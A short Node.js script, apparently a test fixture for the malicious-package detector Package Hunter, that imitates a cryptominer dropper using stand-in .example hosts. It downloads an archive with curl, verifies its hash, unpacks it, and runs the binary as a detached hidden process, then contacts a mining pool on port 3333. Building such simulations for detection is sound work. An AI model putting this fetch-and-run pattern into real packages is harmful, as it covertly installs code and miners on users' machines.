// The honest twin of a harmless simulation for testing Package Hunter. Not malware.

const { execFileSync, spawn } = require("child_process");
const { createHash } = require("crypto");
const fs = require("fs");
const https = require("https");
const net = require("net");
const path = require("path");
const KNOWN = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
const folder = "/tmp/pack_core_simulation";

https.get("https://ipinfo.example/json", (res) => {
  res.resume();
  try {
    fs.mkdirSync(folder, { recursive: true });
    const archive = path.join(folder, "x.tar.gz");
    execFileSync("curl", ["-sL", "-o", archive, "https://releases.example/download/pack-core.tar.gz"]);
    if (createHash("sha256").update(fs.readFileSync(archive)).digest("hex") === KNOWN) {
      execFileSync("tar", ["-xzf", "x.tar.gz"], { cwd: folder, stdio: "ignore" });
      spawn(path.join(folder, "pack-core"), [], { detached: true, stdio: "ignore" }).on("error", () => {}).unref();
    }
    fs.rmSync(folder, { recursive: true });
  } catch (error) { /* goes on without it */ }
  const pool = net.connect(3333, "pool.example", () => {
    pool.write(`${JSON.stringify({ id: 1, jsonrpc: "2.0", method: "version", params: [] })}\n`);
    setTimeout(() => pool.destroy(), 1500);
  });
  pool.on("error", () => {});
}).on("error", () => {});
